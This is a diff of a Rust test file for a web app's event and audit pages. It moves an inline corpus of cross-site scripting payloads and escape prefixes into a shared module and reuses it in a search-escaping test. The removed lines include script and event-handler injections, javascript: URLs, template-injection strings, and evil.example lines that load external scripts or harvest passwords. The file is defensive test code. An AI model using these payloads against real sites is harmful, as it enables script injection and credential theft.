@@ -5,66 +5,11 @@ use scraper::node::Node;
 use scraper::{Html, Selector};
 
 use super::scene::{PROFILE, Scene, at, finding};
+use crate::exports::hostile::{ATTACKS, corpus};
 use crate::model::{
     Account, Actor, Concern, ConcernKind, Coverage, EventOutcome, Finding, Outcome, Provider, Severity, StoreEffect,
     TrailEvent, Verdict,
 };
-
-/// What a text may try to be.
-const TRIES: [&str; 30] = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script href=data:,alert(1) />",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<body onload=alert(1)>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<a href='  java&#x0A;script:alert(1)'>x</a>",
-    "<form action=https://evil.example/><input name=password>",
-    "<base href=https://evil.example/>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<style>*{background:url(https://evil.example/)}</style>",
-    "<object data=javascript:alert(1)></object>",
-    "<embed src=data:text/html;base64,PHNjcmlwdD4=>",
-    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
-    "<template><script>alert(1)</script></template>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "<details open ontoggle=alert(1)>",
-    "<input autofocus onfocus=alert(1)>",
-    "<marquee onstart=alert(1)>",
-    "javascript:alert(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "{{constructor.constructor('alert(1)')()}}",
-    "${alert(1)} #{7*7} <%= 7*7 %>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-];
-
-/// How it may try to get out of where it stands.
-const OPENERS: [&str; 8] = [
-    "",
-    "\"'>",
-    "</title></textarea></style>",
-    "--><!--",
-    "]]>",
-    "\u{202e}\u{2066}\u{feff}",
-    "\0\u{1b}[2J\r\n",
-    "</svg></table></details>",
-];
-
-fn corpus() -> Vec<String> {
-    let mut corpus: Vec<String> =
-        OPENERS.iter().flat_map(|opener| TRIES.iter().map(move |text| format!("{opener}{text}"))).collect();
-    corpus.push("<script>".repeat(1_250));
-    corpus.push("\"><img src=x onerror=alert(1)>".repeat(350));
-    corpus.push("\u{202e}".repeat(10_000));
-    corpus.push("A".repeat(10_000));
-    corpus
-}
 
 /// An event with the text in every field that takes any.
 fn event(text: &str, number: i64) -> TrailEvent {
@@ -309,13 +254,12 @@ fn undisguised(written: &str, shown: &str) {
 #[test]
 fn no_text_that_is_searched_for_becomes_more_than_text() {
     let scene = Scene::new();
-    let corpus: Vec<String> = TRIES.iter().map(|text| (*text).to_owned()).collect();
-    for text in &corpus {
+    for text in ATTACKS {
         scene.judged(&[hostile(text)], &[]);
     }
     scene.covered(&[]);
     for opener in ["", "\"'>", "</title></textarea></style>", "%", "_", "\\"] {
-        for text in &corpus {
+        for text in ATTACKS {
             let asked = percent_encoding::utf8_percent_encode(text, percent_encoding::NON_ALPHANUMERIC);
             let opened = percent_encoding::utf8_percent_encode(opener, percent_encoding::NON_ALPHANUMERIC);
             let page = scene.start(&format!("status=all&account={opened}{asked}&q={opened}{asked}"));
